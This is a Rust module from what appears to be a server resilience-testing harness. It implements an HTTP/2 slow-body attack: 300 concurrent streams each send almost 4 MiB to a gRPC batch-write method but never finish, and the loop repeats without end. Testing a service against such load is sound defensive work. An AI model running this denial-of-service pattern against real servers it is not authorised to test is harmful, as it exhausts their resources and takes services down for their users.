//! Bodies over HTTP/2 that lack their end, many on a connection.

use futures::future::{FutureExt as _, join_all};

use super::{Attack, Target, hostile};

/// Connections, and streams on each.
const CONNECTIONS: usize = 2;
const STREAMS: usize = 150;
/// Bytes that each sends.
const BODY_BYTES: usize = (4 << 20) - 1;
/// A method that takes a large message.
const METHOD: &str = "/proffer.catalog.v1.RecordService/BatchPutRecords";

/// The attack.
pub const ATTACK: Attack =
    Attack { name: "unfinished bodies over HTTP/2", run: |target| run(target).boxed() };

async fn run(target: Target) -> anyhow::Result<()> {
    join_all((0..CONNECTIONS).map(|_| again_and_again(&target))).await;
    Ok(())
}

async fn again_and_again(target: &Target) {
    loop {
        if let Ok(sender) = hostile::connect_h2(target, 64 * 1024).await {
            let hold = |_| {
                let sender = sender.clone();
                async move {
                    while hold(sender.clone(), target).await.is_ok() {
                        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
                    }
                }
            };
            join_all((0..STREAMS).map(hold)).await;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

/// Sends all but the end, and waits until the server ends it.
async fn hold(
    sender: h2::client::SendRequest<bytes::Bytes>,
    target: &Target,
) -> anyhow::Result<()> {
    let mut sender = sender.ready().await?;
    let (answer, mut body) = sender.send_request(hostile::grpc(target, METHOD)?, false)?;
    hostile::pour(&mut body, BODY_BYTES, target).await;
    drop(answer.await);
    Ok(())
}
